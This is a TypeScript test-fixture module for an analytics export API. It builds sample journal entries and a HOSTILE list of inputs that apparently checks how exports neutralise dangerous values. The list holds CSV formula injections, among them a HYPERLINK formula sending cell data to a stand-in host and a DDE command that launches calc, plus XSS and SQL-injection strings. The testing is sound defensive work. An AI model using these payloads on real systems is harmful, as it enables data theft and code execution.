// What the tests of the exports share: entries with hostile texts in every place that can hold one, and what a format makes of them.
import { randomUUID } from "node:crypto";
import { onTestFinished } from "vitest";
import { createExportApi } from "../../../packages/collector/src/export/export-api.ts";
import { openReadModel, type ReadModel } from "../../../packages/collector/src/read-model.ts";

export const NOW = Date.UTC(2026, 0, 31);
export const MINUTE = 60_000;
export const visitorOf = (n: number): string => `01a2b3c4-0000-7000-8000-${String(n).padStart(12, "0")}`;
export const sessionOf = (n: number): string => `01a2b3c4-0000-7000-9000-${String(n).padStart(12, "0")}`;

let seq = 0;

/** A line of the journal: visitor 1 in the basket, an hour ago. */
export const toLine = (over: object = {}): Record<string, unknown> & { readonly id: string } => ({
  id: randomUUID(),
  kind: "touchpoint",
  type: "page",
  name: "/cart",
  at: NOW - 60 * MINUTE,
  tab: "a",
  seq: ++seq,
  stage: "checkout",
  step: "cart",
  page: { url: "https://shop.example/cart?utm_source=mail", referrer: "https://news.example" },
  data: { depth: 1 },
  site: "shop",
  visitor: visitorOf(1),
  session: sessionOf(1),
  sdk: "0.1.0",
  received: NOW - 59 * MINUTE,
  rawAt: NOW - 60 * MINUTE,
  browser: { family: "firefox", major: 140, device: "desktop" },
  ...over,
});

export const toAnswer = (value: unknown, over: object = {}, data: object = {}) =>
  toLine({
    kind: "answer",
    type: typeof value === "number" ? "nps" : "text",
    name: "why-leave/more",
    ...over,
    data: {
      survey: "why-leave",
      submission: "01a2b3c4-0000-7000-a000-000000000001",
      question: "more",
      value,
      language: "en",
      evidence: { stage: "checkout", step: "cart", engaged: 1200, last: [] },
      ...data,
    },
  });

/** Beginnings that a spreadsheet takes for a formula, and texts that break quoting, lines, markup or encodings. */
export const HOSTILE: readonly string[] = [
  ...["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠1"],
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  ...["'", "'=1", "''", '"', '""', ",", "a,b", 'a"b', "a\nb", "a\r\nb", "\n", " a ", ""],
  ...[
    "<script>alert(1)</script>",
    "]]>",
    "&amp;",
    "<!--",
    '" onload="x',
    "\u0001\u0008\u001f",
    "\ufffe",
    "😀",
    "\u202eabc",
  ],
  ...["__proto__", "null", "NaN", "\\", "\\n", "%00", "'; DROP TABLE entries; --"],
];

export interface Export {
  add(lines: readonly object[]): Promise<void>;
  /** The whole text of an export. */
  read(query: string): Promise<string>;
  readonly answer: ReturnType<typeof createExportApi>;
  readonly readModel: ReadModel;
}

export const openExport = async (options: { readonly include?: ["simulated"] } = {}): Promise<Export> => {
  const readModel = await openReadModel(":memory:");
  onTestFinished(readModel.close);
  const answer = createExportApi({ readModel, now: () => NOW, ...options });
  return {
    readModel,
    answer,
    add: (lines) => readModel.apply({ from: readModel.applied(), lines: lines.map((line) => JSON.stringify(line)) }),
    read: async (query) => (await answer(new URLSearchParams(query))).text(),
  };
};

/** One log with something of each kind, and every hostile text as a name and as an answer. */
export const LINES: readonly object[] = [
  toLine(),
  toLine({ type: "step", name: "payment", step: "payment", at: NOW - 50 * MINUTE }),
  toLine({
    kind: "friction",
    type: "rage-click",
    name: "pay",
    data: { weight: 0.8, clicks: 4 },
    at: NOW - 49 * MINUTE,
  }),
  toLine({ kind: "friction", type: "abandon", name: "checkout", data: { state: "leaving", weight: 0.5 } }),
  toLine({
    stage: null,
    step: "/help",
    page: { url: "https://shop.example/help" },
    visitor: visitorOf(2),
    session: sessionOf(2),
  }),
  toLine({
    stage: undefined,
    step: undefined,
    page: undefined,
    type: "custom",
    channel: "phone",
    browser: undefined,
    visitor: visitorOf(3),
    session: undefined,
  }),
  toLine({ kind: "survey", type: "shown", name: "why-leave", data: { survey: "why-leave", submission: sessionOf(7) } }),
  toLine({ type: "vital", name: "LCP", data: { value: 1200 } }),
  toLine({ kind: "gap", type: "evicted", name: "too-old", data: { count: 1 } }),
  toLine({ visitor: undefined, session: undefined, tab: undefined, seq: undefined }),
  ...HOSTILE.map((text) => toLine({ type: "custom", name: text })),
  ...HOSTILE.map((text) => toAnswer(text)),
  toAnswer(["a", "=b"], { type: "choices" }),
  toAnswer(9),
];
